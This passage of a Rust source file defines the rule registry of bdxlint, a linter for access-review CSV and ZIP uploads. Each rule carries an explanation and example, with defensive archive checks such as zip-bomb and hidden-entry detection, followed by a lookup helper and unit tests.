        fix Sometimes Unsafe "Unsafe (the column's evidence is strong, not certain): in a day-first column, swaps day and month (`06/07/2019` becomes `07/06/2019`, 6 July), made with the `invalid-date` fixes of the day-first cells, so that the fixed column reads month first throughout. None in a column written both ways.";
    MISSING_ONE_OF = "K001", "missing-one-of", Error, "Resources and their fields",
        "None of a group of columns is filled where one is needed",
        "What it does: checks groups of which at least one cell must be filled, optionally only on some rows (a review without ID needs an identity column).\n\
         Why it matters: the platform cannot identify the record.\n\
         Example: an entitlements row with no Email, User ID or Username. Fix: fill one of the named columns.";
    MISSING_DEPENDENT_VALUE = "K002", "missing-dependent-value", Error, "Resources and their fields",
        "A cell is empty although another cell of the row requires it",
        "What it does: checks conditional requirements: pairs (Connection and Connection Type), chains (Connection Provider needs Connection and Connection Type), Metadata needing Metadata Version, a value needing another column (Scope `integration` needs Integration), and review creation rows.\n\
         Why it matters: the platform rejects the row or misreads it.\n\
         Example: Connection `admins` with no Connection Type. Fix: fill the named cell, or empty the one that requires it.";
    MISMATCHED_VALUES = "K003", "mismatched-values", Error, "Reviews CSV (upload)",
        "Two cells of a row that must be equal differ",
        "What it does: checks pairs of columns that must hold the same value (reviews: Updated By must equal Reviewer ID).\n\
         Why it matters: the platform refuses changes by anyone but the assigned reviewer.\n\
         Example: Reviewer ID `ann@example.com`, Updated By `bob@example.com`. Fix: make the change as the reviewer, or reassign first.";
    PARTIAL_COLUMN_GROUP = "K004", "partial-column-group", Error, "Reviews CSV (upload), Identity rule",
        "Some but not all of a one-or-all group of columns are filled",
        "What it does: checks groups where the spec allows exactly one column or all of them (reviews: Identity ID, Identity Email, Identity Username).\n\
         Why it matters: the spec's identity rule reads \"one of Identity ID, Identity Email, Identity Username may be given, or all three\": two, and only two, is neither.\n\
         Example: Identity Email and Identity Username set, Identity ID empty. Fix: fill all three or keep one.";
    DATE_ORDER = "K005", "date-order", Warning, "Campaigns CSV (upload)",
        "A start date is after the end date of the same row",
        "What it does: compares pairs of date columns that describe a period (campaigns: Start Date and End Date), instants with their offsets.\n\
         Why it matters: a campaign that ends before it starts never runs; the spec does not say the platform refuses it, so this is a warning.\n\
         Example: Start Date `2024-05-01T00:00:00Z`, End Date `2024-04-30T00:00:00Z`. Fix: swap or correct the dates.";
    JSON_UNKNOWN_KEY = "J001", "json-unknown-key", Warning, "Employees CSV (upload)",
        "A JSON cell holds a key its grammar does not know",
        "What it does: checks the keys of JSON cells whose grammar the spec gives (employee Metadata v1, identity and role entity metadata, relation metadata, integration settings, recommendations, labels) and points at each unknown key, suggesting a near one.\n\
         Why it matters: the platform ignores or rejects keys it does not know; a misspelt key (`manager_id` for `manager id`) loses the value silently.\n\
         Example: `{\"locaton\":{...}}` in employee Metadata. Fix: use a key the spec lists, or drop it.";
    JSON_TYPE_MISMATCH = "J002", "json-type-mismatch", Error, "Employees CSV (upload)",
        "A value inside a JSON cell has the wrong type",
        "What it does: checks the type of each known key or element in a JSON cell (string, number, boolean, object, array) and points at the value.\n\
         Why it matters: the platform decodes metadata into typed fields; a wrong type fails the row.\n\
         Example: `{\"privilegeValue\":\"true\"}` in relation metadata (a string, not a boolean). Fix: write the type the spec gives (`true`).";
    JSON_MISSING_KEY = "J003", "json-missing-key", Error, "Findings CSV (upload)",
        "An object inside a JSON cell lacks a required key",
        "What it does: checks that objects carry the keys their grammar requires (a label needs `key`; an integration setting needs `name`, `key` and `type`) and points at the object.\n\
         Why it matters: the record cannot be built without them.\n\
         Example: `[[{\"value\":{\"text\":\"x\"}}]]` in findings Labels. Fix: add `\"key\":\"<label>\"`.";
    JSON_INVALID_VALUE = "J004", "json-invalid-value", Error, "Reviews CSV (upload)",
        "A string inside a JSON cell is not one of the allowed values or shapes",
        "What it does: checks strings that the spec restricts: a recommendation `value` (approve, deny or empty), a setting `type` (public or secret), role metadata `integrations` entries (`<app>/<integration_id>`).\n\
         Why it matters: the platform rejects or misreads other values.\n\
         Example: `{\"value\":\"approved\"}` in Recommendation. Fix: write `approve`.";
    FILTER_STRUCTURE = "J005", "filter-structure", Error, "Filters CSV (upload)",
        "A filter Value is not shaped field -> operator -> value",
        "What it does: checks the shape of filter expressions: an object of fields, each mapping operators to values; `_and` takes an array of conditions, `_not` a condition (or an array of them); `employee` and `entitlement` take sub-conditions.\n\
         Why it matters: the platform cannot evaluate a filter of another shape; at best it matches nothing.\n\
         Example: `{\"department\":\"Sales\"}` (a value where an operator object belongs). Fix: `{\"department\":{\"_eq\":\"Sales\"}}`.";
    FILTER_UNKNOWN_OPERATOR = "J006", "filter-unknown-operator", Error, "Filters CSV (upload)",
        "A filter uses an operator the spec does not define",
        "What it does: checks operators in filter expressions against the spec's list (`_eq`, `_in`, and the logical `_and`, `_not`), suggesting a near one.\n\
         Why it matters: an unknown operator fails the filter or is ignored, so the filter matches more than meant.\n\
         Example: `{\"title\":{\"_equals\":\"CFO\"}}`. Fix: `_eq`.";
    FILTER_OPERAND_TYPE = "J007", "filter-operand-type", Error, "Filters CSV (upload)",
        "A filter operator has a value of the wrong type",
        "What it does: checks operator values: `_eq` takes a string, `_in` an array of strings.\n\
         Why it matters: the platform compares strings; a number, boolean or nested value fails the filter.\n\
         Example: `{\"department\":{\"_in\":\"Sales\"}}`. Fix: `{\"_in\":[\"Sales\"]}`.";
    FILTER_UNKNOWN_FIELD = "J008", "filter-unknown-field", Error, "Filters CSV (upload), Fields by filter type",
        "A filter names a field its filter Type does not list",
        "What it does: checks filter fields, case included, against the spec's \"Fields by filter type\" table for the row's Type (sub-fields of `employee` against PEOPLE, of `entitlement` against ENTITLEMENTS), suggesting a near one. Types the table does not list get no field check of their own, but the sub-fields of `employee` and `entitlement` are checked on every type, since the spec states them generally.\n\
         Why it matters: the spec states which fields each filter type has; a field the type does not list matches nothing or fails the filter. REVIEWS filters spell `idenetity_type` as the spec does.\n\
         Example: `{\"departmnet\":{\"_eq\":\"Sales\"}}` or `{\"Department\":{\"_eq\":\"Sales\"}}` on a PEOPLE filter. Fix: `department`.";
    FILTER_MALFORMED_LABELS = "J009", "filter-malformed-labels", Error, "Filters CSV (upload)",
        "A filter's `labels` field is not an array of {key, val} objects",
        "What it does: checks the `labels` field of filter expressions: an array of objects, each with a string `key` (the label's ID) and a `val` object mapping an operator to a label name.\n\
         Why it matters: the platform cannot match labels written another way.\n\
         Example: `{\"labels\":{\"_eq\":\"sod\"}}`. Fix: `{\"labels\":[{\"key\":\"sod\",\"val\":{\"_eq\":\"conflict\"}}]}`.";

    IDENTITY_CONFLICT = "X001", "identity-conflict", Error, "Entitlements CSV (upload)",
        "Two identity values of a row are paired with a different third value on an earlier row",
        "What it does: applies the entitlements consistency rules 2-4 across the whole file: a row whose Email and User ID match an earlier row but whose Username differs (both filled), likewise Username and User ID with a different Email, and Username and Email with a different User ID. It points at the differing cell and names the earlier line.\n\
         Why it matters: the spec says such a row is rejected with an error.\n\
         Example: line 2 `ada@example.com,583231,ada`, line 9 `ada@example.com,583231,alovelace`. Fix: use one Username for that person everywhere, or correct the Email or User ID.";
    IDENTITY_COMBINATION = "X002", "identity-combination", Error, "Entitlements CSV (upload)",
        "A row fills a different combination of identity columns than an earlier row with the same value",
        "What it does: applies the entitlements consistency rule 1: every row in which an identity value (an Email, User ID or Username) appears must fill the same combination of the three columns as the first row with that value. It points at the first cell filled in one row but not the other (an empty cell, or the row when the header lacks the column) and names the earlier line.\n\
         Why it matters: the spec requires the same combination on every row in which the values appear; the upload is rejected otherwise.\n\
         Example: line 2 gives Email `ada@example.com` and User ID `583231`, line 7 gives Email `ada@example.com` alone. Fix: fill the same identity columns on both rows.";
    IDENTITY_PARTNER_MISMATCH = "X003", "identity-partner-mismatch", Error, "Entitlements CSV (upload), Consistency rules",
        "A row shares one identity value with an earlier row but pairs it with a different value",
        "What it does: applies the entitlements consistency rule 1 to a row that shares exactly one identity value with an earlier row and gives a different value in another identity column both rows fill, pointing at the first differing cell and naming the earlier line. (Two shared values and a different third are `identity-conflict`; a column filled in only one of the rows is `identity-combination`.)\n\
         Why it matters: \"the same combination must appear on every row in which they appear\", and the spec's Errors table makes an inconsistent combination an error on processing the file: one e-mail with two user IDs is refused.\n\
         Example: line 2 `ada@example.com,583231`, line 5 `ada@example.com,583232`. Fix: correct the value, or give the two accounts different e-mails.";
    DUPLICATE_VALUE = "X004", "duplicate-value", Error, "Campaigns CSV (upload)",
        "A value that must be unique in the file repeats",
        "What it does: flags a row whose key (a column, or a composite of columns, declared unique in the format's table) repeats an earlier row's, compared trimmed and, where the table says so, without case; empty keys never count. It names the earlier line. Severity comes from the table: campaign names are errors, repeated IDs and work e-mails warnings.\n\
         Why it matters: two campaigns cannot have the same name; a second row with the same ID updates the same record twice, which is almost always a copy-paste mistake.\n\
         Example: two campaigns rows named `Q2 access review`. Fix: rename one, or remove the repeated row.";
    DUPLICATE_ROW = "X005", "duplicate-row", Warning, "CSV practice",
        "A row repeats an earlier row exactly",
        "What it does: flags a row whose cells, decoded (`\"a\"` equals `a`) but not trimmed, all equal an earlier row's, and names the earlier line. It remembers at most 1,500,000 distinct rows (an info says when a file passes that); rows after that are still compared with the remembered ones.\n\
         Why it matters: a repeated row is usually a paste or export done twice; depending on the format it creates a duplicate or applies the same change twice.\n\
         Example: line 3 and line 8 are the same entitlement. Fix: remove the repeated row.",
        fix Sometimes Unsafe "Unsafe: removes the repeated row and its line ending (the two may be meant as one row changed later). Not for the info that the check stopped remembering rows.";
    INCOMPATIBLE_ROWS = "X006", "incompatible-rows", Error, "States and transitions (Review)",
        "Two rows of one file ask for what the platform cannot accept together",
        "What it does: flags a row of one kind under a key (reviews: the campaign, by Campaign Name or else Campaign ID) that an earlier row of the other kind named, as the format's `[[exclusive]]` entries declare them, and names the earlier line. Reviews: a row that creates a review (no ID) and a row that changes a review's status (ID, and Review Status approved, rejected or delegated) under the same campaign.\n\
         Why it matters: creating a review needs a draft campaign and a status change a published one; whatever state the campaign is in, one of the two rows is refused, so the file cannot be accepted whole. No platform state is needed to see it.\n\
         Example: line 2 creates a review under `Q2 access review`, line 5 approves review `rev-0002` under it. Fix: upload the two kinds in two files, the creations while the campaign is a draft, the status changes once it is published.";
    IDENTITY_EMAIL_CASE = "X007", "identity-email-case", Warning, "Entitlements CSV (upload), Consistency rules",
        "A row's e-mail equals an earlier row's only without case",
        "What it does: compares the e-mails of the entitlements identity rules without case too. A row whose Email differs from an earlier row's only in case, with the same User ID or Username, or paired with other values that the exact comparison does not connect, gets this warning on the Email cell, naming the earlier line; any other difference stays `identity-conflict`, `identity-combination` or `identity-partner-mismatch` (errors), which take precedence.\n\
         Why it matters: the spec says nothing about case, and whether the platform matches `Ada@example.com` and `ada@example.com` as one identity is something one run cannot see: taken as one, the rows are inconsistent and the file is refused; taken as two, a person is split in two.\n\
         Example: line 2 `ada@example.com,583231`, line 5 `Ada@example.com,583231`. Fix: write the e-mail the same way on every row.";
    BUNDLE_MISSING_MEMBER = "B001", "bundle-missing-member", Error, "Entity RBAC ZIP (upload)",
        "A ZIP bundle lacks its entities or relations CSV",
        "What it does: flags an `entity-rbac` or `entities-bulk` ZIP that has no member whose header is an entities CSV, or none whose header is the relations CSV of that bundle.\n\
         Why it matters: both uploads need both files; the platform cannot apply relations without the entities they link, nor an entities-only bundle as the relations step.\n\
         Example: `bundle.zip` holding only `entities.csv`. Fix: add the relations CSV to the ZIP.";
    BUNDLE_UNKNOWN_MEMBER = "B002", "bundle-unknown-member", Error, "Entity RBAC ZIP (upload)",
        "A ZIP member is not one of the bundle's CSV files",
        "What it does: flags a member that is not a `.csv` file, or a CSV whose header is neither the entities table nor the bundle's relations table.\n\
         Why it matters: the bundle holds exactly two CSV files; anything else is either a mistake (the wrong export zipped) or ignored by the platform.\n\
         Example: `notes.txt` or `employees.csv` inside `bundle.zip`. Fix: remove it from the ZIP.";
    BUNDLE_DUPLICATE_ROLE = "B003", "bundle-duplicate-role", Error, "Entity RBAC ZIP (upload)",
        "Two ZIP members fill the same role",
        "What it does: flags a second member whose header is the same table (two entities CSVs, or two relations CSVs).\n\
         Why it matters: the bundle holds one of each; which of two the platform would take is not specified.\n\
         Example: `entities.csv` and `entities-old.csv` in one ZIP. Fix: keep one.";
    BUNDLE_NOT_ZIP = "B004", "bundle-not-zip", Error, "Entity RBAC ZIP (upload)",
        "A CSV file given as a ZIP-only bundle format",
        "What it does: flags a `.csv` file (or anything that is not a ZIP archive) checked with `--format entity-rbac` or `--format entities-bulk`.\n\
         Why it matters: those uploads accept only a ZIP holding both CSV files.\n\
         Example: `bdxlint check --format entity-rbac relations.csv`. Fix: zip the entities and relations CSV files together.";
    ARCHIVE_REFUSED = "B005", "archive-refused", Error, "Entity RBAC ZIP (upload)",
        "A ZIP archive or member that bdxlint will not read",
        "What it does: stops on a corrupt or truncated archive, entries of the central directory that share a name (the archive reader keeps one entry per name: each shared name is said, found by walking the directory whatever its end record looks like), entries whose bytes overlap, an encrypted member, a nested archive, a member or archive larger (uncompressed, counted while reading) than `--max-member-size` / `--max-total-size`, or a member that inflates more than `--max-ratio` times its compressed size (a zip bomb).\n\
         Why it matters: the platform cannot read such an archive either, and a hostile archive must not fill the memory or disk of the machine that checks it.\n\
         Example: a 50 KB ZIP that inflates to 50 GB of zeros. Fix: rebuild the ZIP from the two plain CSV files.";
    DANGLING_REFERENCE = "B006", "dangling-reference", Error, "Entities CSV (upload)",
        "A relation names an entity the entities file does not define",
        "What it does: in an `entities-bulk` ZIP (or with `--entities FILE`), flags a Parent Entity Source ID or Entity Source ID whose (Entity Type, Source ID) pair is not among the entities' rows.\n\
         Why it matters: a relation can only link entities that exist; the platform drops or rejects the row.\n\
         Example: a relation to role `r-9` when the entities CSV defines only `r-1`. Fix: add the entity, or correct the ID or type.";
    UNDEFINED_ROLE = "B007", "undefined-role", Warning, "Entity RBAC ZIP (upload)",
        "An entity-rbac relation names a role the bundle does not define",
        "What it does: in an `entity-rbac` ZIP, flags a role reference (Parent Entity Type or Entity Type `role`) whose Source ID no role row of the entities member defines.\n\
         Why it matters: the role may exist from an earlier sync, which bdxlint cannot see, so it is a warning; more often it is a typo.\n\
         Example: a relation with parent role `admin` when the entities CSV defines role `admins`. Fix: define the role, or check the ID.";
    UNDEFINED_INTEGRATION = "B008", "undefined-integration", Warning, "Integrations CSV (download)",
        "An RBAC2 or findings Integration names an integration the batch's integrations download does not list",
        "What it does: when one run checks an integrations download together with RBAC2 or findings files, flags each Integration cell (`<app>/<integration_id>`) whose integration ID, the part after the `/`, is not in the download's ID column. Says nothing when the run holds no integrations download.\n\
         Why it matters: the platform attaches the record to that integration; an ID it does not know is usually a typo or an integration of another tenant. It may have been added after the download was taken, so this is a warning.\n\
         Example: `github/int-0009` in `rbac2.csv` when `integrations.csv` lists `int-0001` to `int-0005`. Fix: correct the ID, or download the integrations again.";
    NEW_REVIEW_ON_PUBLISHED_CAMPAIGN = "B009", "new-review-on-published-campaign", Warning, "Reviews CSV (upload)",
        "A reviews row creates a review on a campaign the batch's campaigns file publishes",
        "What it does: when one run checks a campaigns file together with a reviews file, flags each reviews row without ID (a new review) whose Campaign Name (or Campaign ID) names a campaign that a campaigns row publishes (Is Published TRUE). It names that campaigns row.\n\
         Why it matters: new reviews can only be created while their campaign is a draft. The spec's order is: create the campaign with Is Published FALSE, upload the reviews and wait for them to propagate, then publish the campaign in a second campaigns upload. A batch whose campaigns file publishes the campaign works only if the campaign already exists as a draft and the reviews are uploaded, and have propagated, before that file.\n\
         Example: `campaigns.csv` has `Q2 access review,...,TRUE` and `reviews.csv` creates a review under `Q2 access review`. Fix: set Is Published to FALSE for now, upload the reviews, wait, then upload the campaign again with TRUE.";
    REFERENCES_UNCHECKED = "B010", "references-unchecked", Info, "Entity RBAC ZIP (upload)",
        "References of a relations file were not checked",
        "What it does: notes once per relations file that its Source IDs point at entities bdxlint was not given, or that its `employee` ends were not checked because the run holds no employees CSV.\n\
         Why it matters: a dangling reference is only found when the entities (or employees) it points at are known.\n\
         Example: `bdxlint check relations.csv`. Fix: pass the entities export with `--entities entities.csv`, and check the employees CSV in the same run.";
    UNDEFINED_FILTER = "B011", "undefined-filter", Warning, "Rules CSV (upload)",
        "A rule's Filters names a filter ID the batch's filters file does not define",
        "What it does: when one run checks a filters file (with an ID column) together with a rules file, flags each element of a rule's Filters that no filters row has as its ID, or that a filters row deletes (Status `deleted`). Rules being deleted are not checked. Says nothing when the run holds no filters file.\n\
         Why it matters: a rule combines already-configured filters; a filter ID the platform does not have fails the rule or silently drops a condition. The filter may already exist on the platform, so this is a warning.\n\
         Example: Filters `flt-0001, flt-0009` when `filters.csv` defines `flt-0001` to `flt-0005`. Fix: correct the ID, or add the filter to the filters file.";
    UNDEFINED_CAMPAIGN = "B012", "undefined-campaign", Warning, "Reviews CSV (upload)",
        "A review's Campaign Name or Campaign ID names a campaign the batch's campaigns file does not define",
        "What it does: when one run checks a campaigns file together with a reviews file, flags each Campaign Name that no campaigns row names, or that a campaigns row deletes (Status `deleted`). Campaign ID is checked the same way only against campaigns files that have an ID column, which the upload format does not. Says nothing when the run holds no campaigns file.\n\
         Why it matters: a review belongs to an existing campaign; a name the platform does not know is refused. The campaign may already exist on the platform, so this is a warning.\n\
         Example: Campaign Name `Q2 acess review` when `campaigns.csv` defines `Q2 access review`. Fix: correct the name, or add the campaign (as a draft) to the campaigns file.";
    STATUS_CHANGE_ON_DRAFT_CAMPAIGN = "B013", "status-change-on-draft-campaign", Error, "Reviews CSV (upload), Campaign ordering rules",
        "A reviews row changes a status under a campaign the batch's campaigns file writes as a draft",
        "What it does: when one run checks campaigns and reviews files, flags each reviews row with an ID and a Review Status of approved, rejected or delegated (a status change; created, started, stopped and request_info only update the recommendation) whose Campaign Name (or Campaign ID) names a campaign a campaigns row writes with Is Published FALSE (rows with Status `deleted` or `aborted` do not count), naming that row. A warning when the run also writes the campaign with TRUE.\n\
         Why it matters: a status can only be changed while the campaign is not a draft, and a published campaign never returns to draft: the change is refused while the campaign is a draft, the FALSE row once it is published, in every upload order. With a TRUE row too, FALSE, then TRUE, then the reviews succeeds.\n\
         Example: `campaigns.csv` has `Q3 access review,...,FALSE`; `reviews.csv` approves `rev-0002` under it. Fix: publish the campaign once its reviews exist, and upload the status changes after that has propagated.";
    UNDEFINED_EMPLOYEE = "B014", "undefined-employee", Warning, "Entity RBAC ZIP (upload)",
        "A relation names an employee the run's employees CSV does not list",
        "What it does: when one run checks an employees CSV and relations (a CSV, or a ZIP bundle's member), flags each Parent Entity Source ID or Entity Source ID of type `employee` (any case) that is no Work Email of the employees files (trimmed, ignoring case). Employee ends are never checked against entities; with no employees CSV in the run, a `references-unchecked` info says so.\n\
         Why it matters: a relation can only link an employee the platform knows. It may be there from an earlier upload, which one run cannot see, so this is a warning.\n\
         Example: a relation to employee `ada.lovelace@example.org` when `employees.csv` lists `ada.lovelace@example.com`. Fix: correct the e-mail, or add the employee to the employees CSV.";
    ARCHIVE_JUNK = "B015", "archive-junk", Error, "Entity RBAC ZIP (upload)",
        "A ZIP holds operating-system files (`__MACOSX/`, `._*`, `.DS_Store`, `Thumbs.db`)",
        "What it does: recognises the files macOS Finder and Windows Explorer add to a ZIP (the `__MACOSX/` folder, AppleDouble `._name` files, `.DS_Store`, `Thumbs.db`) by name and by content, names them in one error per archive with the command that removes them, and takes none of them for a member of the bundle.\n\
         Why it matters: \"the ZIP holds two CSV files: an entities CSV and an entity relations CSV\", and the upload \"accepts only a ZIP holding the entities CSV and entity relations CSV\": a file the operating system added is a file the platform does not expect, an error as any other member (`bundle-unknown-member`) is; it may also take `__MACOSX/._relations.csv` for a second relations file. bdxlint checks the two CSV files without them.\n\
         Example: `bundle.zip` made with Finder's Compress holds `__MACOSX/._relations.csv`. Fix: `zip -d bundle.zip '__MACOSX/*' '*.DS_Store'`, or make the ZIP with `zip -X`.";
    ARCHIVE_HIDDEN_ENTRY = "B016", "archive-hidden-entry", Warning, "Entity RBAC ZIP (upload)",
        "A ZIP holds an entry one reader sees and another does not",
        "What it does: reads the archive's bytes beside its central directory and flags, in one warning each, local entries that no central directory entry lists (found in the bytes before the directory that no listed entry spans) and central directory entries past the count of the end record. bdxlint checks the members the central directory lists; these it never checks.\n\
         Why it matters: a reader that streams a ZIP from its first byte takes every local entry for a member, a reader of the central directory only the listed ones, so the two see different files: the platform's reader may take a member bdxlint never checked. Which reader the platform uses is not stated, so this is a warning. (Two entries of one name, which hide one from bdxlint itself, are `archive-refused`.)\n\
         Example: a ZIP whose first bytes are a local entry `relations.csv` that the central directory leaves out, followed by the listed entities and relations. Fix: rebuild the ZIP from the two CSV files.";
}

/// Finds a rule by code or name (case-insensitive).
pub fn lookup(key: &str) -> Option<&'static Rule> {
    ALL.iter()
        .copied()
        .find(|r| r.code.eq_ignore_ascii_case(key) || r.name.eq_ignore_ascii_case(key))
}

/// The README's rule table, rendered from the registry (a test keeps the
/// README in step).
pub fn markdown_table() -> String {
    let mut out = String::from("| Code | Name | Default | What it flags |\n|---|---|---|---|\n");
    for r in ALL {
        out.push_str(&format!(
            "| {} | `{}` | {} | {} |\n",
            r.code,
            r.name,
            r.severity,
            r.summary.replace('|', "\\|")
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn codes_and_names_are_unique_and_well_formed() {
        let mut codes = HashSet::new();
        let mut names = HashSet::new();
        for r in ALL {
            assert!(codes.insert(r.code), "duplicate code {}", r.code);
            assert!(names.insert(r.name), "duplicate name {}", r.name);
            assert!(
                r.name
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
                "{} is not kebab-case",
                r.name
            );
            assert!(r.explanation.contains("What it does"), "{}", r.code);
            assert!(r.explanation.contains("Why it matters"), "{}", r.code);
            assert!(r.explanation.contains("Example"), "{}", r.code);
        }
    }

    #[test]
    fn lookup_by_code_or_name() {
        assert_eq!(lookup("c004").map(|r| r.name), Some("invalid-date"));
        assert_eq!(lookup("invalid-date").map(|r| r.code), Some("C004"));
        assert!(lookup("nope").is_none());
    }
}
